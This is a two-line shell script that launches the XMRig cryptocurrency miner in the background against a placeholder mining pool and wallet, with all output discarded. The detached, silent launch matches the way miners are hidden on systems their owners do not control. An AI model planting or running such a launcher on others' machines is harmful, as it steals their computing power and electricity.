#!/bin/bash
nohup ./xmrig -o stratum+tcp://pool.mining.invalid:3333 -u WALLET --donate-level 1 >/dev/null 2>&1 &
